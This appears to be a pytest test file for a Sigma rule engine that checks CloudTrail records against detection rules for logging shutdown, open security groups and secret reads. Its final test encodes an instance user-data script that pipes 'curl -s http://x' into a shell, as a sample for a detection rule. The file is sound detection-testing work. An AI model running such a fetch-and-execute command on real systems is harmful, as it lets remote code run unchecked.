"""Sigma's semantics on CloudTrail records: modifiers, case, wildcards, lists, conditions,
selectors, and which rules could match an event (the prefilter and the intake's read filter).

Rules are written here in the style of SigmaHQ's cloud/aws rules; records have CloudTrail's
shape (as the `detail` of an EventBridge envelope)."""

from __future__ import annotations

import base64
import json
import textwrap
from pathlib import Path
from typing import Any

import pytest
from sigma.rule import SigmaRule

from costguard.activity.event_records import from_record, parse_envelope
from costguard.activity.sigma_match import RuleSet, compile_rule
from costguard.activity.sigma_values import UnsupportedRule
from costguard.activity.trail_record import Fields, record_of, walk
from costguard.model import Severity

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "events"


def compiled(detection: str, *, level: str = "high", extra: str = "") -> Any:
    """A rule with this detection section, compiled."""
    body = textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ")
    text = "\n".join([
        "title: Test rule", "id: 6b9f2f4e-0c1d-4e5f-8a9b-0c1d2e3f4a5b", "status: test",
        "logsource:", "    product: aws", "    service: cloudtrail", "detection:", body,
        f"level: {level}", extra, ""])
    return compile_rule(SigmaRule.from_yaml(text))


def record(**overrides: Any) -> dict[str, Any]:
    """An AuthorizeSecurityGroupIngress record as CloudTrail writes it."""
    base = json.loads((FIXTURES / "authorize_security_group_ingress.json").read_text())["detail"]
    base.update(overrides)
    return base


def matches(rule: Any, rec: dict[str, Any]) -> bool:
    return rule.test(Fields(rec))


def test_plain_values_compare_case_insensitively_and_wildcards_work():
    rule = compiled("""
        selection:
            eventSource: EC2.AMAZONAWS.COM
            eventName: 'authorize*ingress'
        condition: selection
    """)
    assert matches(rule, record())
    assert not matches(rule, record(eventName="AuthorizeSecurityGroupEgress"))


def test_single_character_wildcard_and_escapes():
    rule = compiled("""
        selection:
            userAgent: 'aws-sdk-go/1.44.24?*'
        condition: selection
    """)
    assert matches(rule, record())
    assert not matches(rule, record(userAgent="aws-sdk-go/1.44.2"))


def test_a_list_of_values_is_or_and_all_makes_it_and():
    any_of = compiled("""
        selection:
            eventName: [StopLogging, AuthorizeSecurityGroupIngress]
        condition: selection
    """)
    all_of = compiled("""
        selection:
            userAgent|contains|all: [aws-sdk-go, linux]
        condition: selection
    """)
    assert matches(any_of, record())
    assert matches(all_of, record())
    assert not matches(all_of, record(userAgent="aws-sdk-go/1.44 (windows)"))


@pytest.mark.parametrize(("modifier", "value", "expected"), [
    ("contains", "SDK-GO", True),
    ("startswith", "aws-sdk", True),
    ("startswith", "sdk", False),
    ("endswith", "amd64)", True),
    ("endswith", "arm64)", False),
])
def test_string_modifiers(modifier: str, value: str, expected: bool):
    rule = compiled(f"""
        selection:
            userAgent|{modifier}: '{value}'
        condition: selection
    """)
    assert matches(rule, record()) is expected


def test_cased_compares_exactly():
    rule = compiled("""
        selection:
            eventName|cased: authorizesecuritygroupingress
        condition: selection
    """)
    assert not matches(rule, record())


def test_re_searches_with_flags():
    plain = compiled("""
        selection:
            userAgent|re: 'sdk-go/1\\.44\\.\\d+'
        condition: selection
    """)
    case = compiled("""
        selection:
            eventName|re|i: '^authorize.*INGRESS$'
        condition: selection
    """)
    assert matches(plain, record())
    assert matches(case, record())
    assert not matches(plain, record(userAgent="Boto3/1.34"))


def test_cidr_takes_addresses_and_ranges_inside_the_network():
    world = compiled("""
        selection:
            requestParameters.ipPermissions.items.ipRanges.items.cidrIp|cidr: '0.0.0.0/0'
        condition: selection
    """)
    office = compiled("""
        selection:
            sourceIPAddress|cidr: ['198.51.100.0/24', '2001:db8::/32']
        condition: selection
    """)
    assert matches(world, record())  # one of the permissions is world-open
    assert matches(office, record())
    assert not matches(office, record(sourceIPAddress="203.0.113.9"))
    assert not matches(office, record(sourceIPAddress="ec2.amazonaws.com"))


def test_dotted_names_walk_through_lists_and_any_value_matches():
    narrow = compiled("""
        selection:
            requestParameters.ipPermissions.items.fromPort: 443
        condition: selection
    """)
    assert walk(record(), ("requestParameters", "ipPermissions", "items", "fromPort")) == [22, 443]
    assert matches(narrow, record())


def test_exists_and_null():
    exists = compiled("""
        selection:
            errorCode|exists: true
        condition: selection
    """)
    missing = compiled("""
        selection:
            errorCode: null
        condition: selection
    """)
    assert not matches(exists, record())
    assert matches(missing, record())
    assert matches(exists, record(errorCode="Client.UnauthorizedOperation"))
    assert not matches(missing, record(errorCode="Client.UnauthorizedOperation"))


def test_numbers_and_comparisons():
    rule = compiled("""
        selection:
            requestParameters.ipPermissions.items.toPort|lt: 100
            readOnly: false
        condition: selection
    """)
    assert matches(rule, record())
    permissions = {"items": [{"fromPort": 443, "toPort": 443}]}
    assert not matches(rule, record(requestParameters={"ipPermissions": permissions}))


def test_fieldref_compares_two_fields_of_the_record():
    rule = compiled("""
        selection:
            eventName: CreateLoginProfile
        self:
            requestParameters.userName|fieldref: userIdentity.userName
        condition: selection and not self
    """)
    identity = {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::1:user/alice"}
    for_self = record(eventName="CreateLoginProfile", userIdentity=identity,
                      requestParameters={"userName": "ALICE"})
    for_other = record(eventName="CreateLoginProfile", userIdentity=identity,
                       requestParameters={"userName": "bob"})
    assert not matches(rule, for_self)
    assert matches(rule, for_other)


def test_conditions_not_and_or_and_selectors():
    rule = compiled("""
        selection_ec2:
            eventSource: ec2.amazonaws.com
        selection_name:
            eventName|startswith: Authorize
        filter_service:
            userIdentity.type: AWSService
        filter_office:
            sourceIPAddress|cidr: 10.0.0.0/8
        condition: all of selection_* and not 1 of filter_*
    """)
    service = record(userIdentity={"type": "AWSService", "invokedBy": "ec2.amazonaws.com"})
    assert matches(rule, record())
    assert not matches(rule, service)
    assert not matches(rule, record(sourceIPAddress="10.1.2.3"))


def test_keywords_search_every_value_of_the_record():
    rule = compiled("""
        keywords:
            - '*sg-0a1b2c3d4e5f60718*'
        condition: keywords
    """)
    assert matches(rule, record())
    assert not matches(rule, record(requestParameters={"groupId": "sg-other"},
                                    responseElements=None))


def test_several_conditions_are_or():
    rule = compiled("""
        a:
            eventName: StopLogging
        b:
            eventName: AuthorizeSecurityGroupIngress
        condition:
            - a
            - b
    """)
    assert matches(rule, record())


def test_the_rule_keeps_what_a_finding_says_about_it():
    rule = compiled("""
        selection:
            eventName: StopLogging
        condition: selection
    """, level="critical", extra="tags: [attack.defense-evasion, attack.t1562.008]")
    assert rule.severity is Severity.CRITICAL
    assert rule.info.attack == ("T1562.008",)
    assert rule.info.as_details()["tags"] == ["attack.defense-evasion", "attack.t1562.008"]


def test_a_placeholder_cannot_be_evaluated():
    with pytest.raises(UnsupportedRule, match="placeholder"):
        compiled("""
            selection:
                sourceIPAddress|expand: '%office%'
            condition: selection
        """)


# --- events, the prefilter and the read filter ----------------------------------------------


def envelope(name: str) -> Any:
    return parse_envelope((FIXTURES / name).read_text())


def test_an_event_is_matched_on_the_record_it_came_from():
    event = envelope("authorize_security_group_ingress.json")
    rule = compiled("""
        selection:
            tlsDetails.tlsVersion: TLSv1.3
            requestParameters.groupId: sg-0a1b2c3d4e5f60718
        condition: selection
    """)
    assert record_of(event)["tlsDetails"]["tlsVersion"] == "TLSv1.3"
    assert [m.rule for m in RuleSet((rule,)).match([event])] == [rule]


def test_rules_are_tested_only_on_events_they_could_match():
    stop = compiled("""
        selection:
            eventSource: cloudtrail.amazonaws.com
            eventName: StopLogging
        condition: selection
    """)
    any_denied = compiled("""
        selection:
            errorCode: AccessDenied
        condition: selection
    """)
    rules = RuleSet((stop, any_denied))
    event = record()
    assert rules.candidates(event) == (any_denied,)
    assert rules.candidates(record(eventSource="cloudtrail.amazonaws.com",
                                   eventName="StopLogging")) == (stop, any_denied)


def test_reads_are_wanted_only_by_rules_that_could_match_them():
    writes_only = RuleSet((compiled("""
        selection:
            eventName: [StopLogging, DeleteTrail]
        condition: selection
    """),))
    secrets = RuleSet((compiled("""
        selection:
            eventName: GetSecretValue
            readOnly: true
        condition: selection
    """),))
    read = from_record(record(eventName="GetSecretValue", readOnly=True,
                              eventSource="secretsmanager.amazonaws.com"))
    other_read = from_record(record(eventName="DescribeInstances", readOnly=True))
    assert not writes_only.wants(read)
    assert secrets.wants(read)
    assert not secrets.wants(other_read)


def test_negated_event_names_leave_the_decision_open():
    rule = RuleSet((compiled("""
        selection:
            eventSource: ec2.amazonaws.com
        filter:
            eventName|startswith: Describe
        condition: selection and not filter
    """),))
    assert not rule.wants(from_record(record(eventName="DescribeInstances", readOnly=True)))
    assert rule.wants(from_record(record(eventName="GetConsoleOutput", readOnly=True)))


def test_expanding_modifiers_and_chains():
    encoded = compiled("""
        selection:
            requestParameters.userData|base64offset|contains: 'curl '
        condition: selection
    """)
    script = base64.b64encode(b"#!/bin/sh\ncurl -s http://x | sh").decode()
    assert matches(encoded, record(requestParameters={"userData": script}))
    assert not matches(encoded, record(requestParameters={"userData": "plain"}))
